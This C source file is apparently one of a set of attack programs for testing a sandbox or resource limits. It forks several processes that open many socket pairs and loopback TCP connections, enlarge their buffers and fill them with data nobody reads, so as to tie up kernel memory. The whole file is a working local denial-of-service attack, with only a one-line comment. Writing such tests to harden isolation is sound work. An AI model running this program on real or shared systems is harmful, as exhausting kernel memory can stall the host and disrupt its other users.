/* The kernel's buffers again: socket pairs and loopback connections that nobody reads. */
#include "attack.h"
#include <netinet/in.h>
static void fill(int fd) {
    static char block[1 << 16];
    int wide = 64 << 20;
    setsockopt(fd, SOL_SOCKET, SO_SNDBUF, &wide, sizeof wide);
    fcntl(fd, F_SETFL, O_NONBLOCK);
    while (send(fd, block, sizeof block, MSG_NOSIGNAL) > 0) continue;
}
int main(void) {
    for (int n = 0; n < 3; n++)
        if (fork() == 0) break;
    struct sockaddr_in at = {AF_INET, 0, {htonl(INADDR_LOOPBACK)}, {0}};
    socklen_t size = sizeof at;
    int wide = 64 << 20, server = socket(AF_INET, SOCK_STREAM, 0);
    setsockopt(server, SOL_SOCKET, SO_RCVBUF, &wide, sizeof wide);
    bind(server, (struct sockaddr *)&at, sizeof at);
    listen(server, 1000);
    getsockname(server, (struct sockaddr *)&at, &size);
    for (int n = 0; n < 150; n++) {
        int pair[2], client = socket(AF_INET, SOCK_STREAM, 0);
        if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair) == 0) fill(pair[0]);
        fcntl(client, F_SETFL, O_NONBLOCK);
        connect(client, (struct sockaddr *)&at, sizeof at);
        fill(client);
    }
    return 0;
}
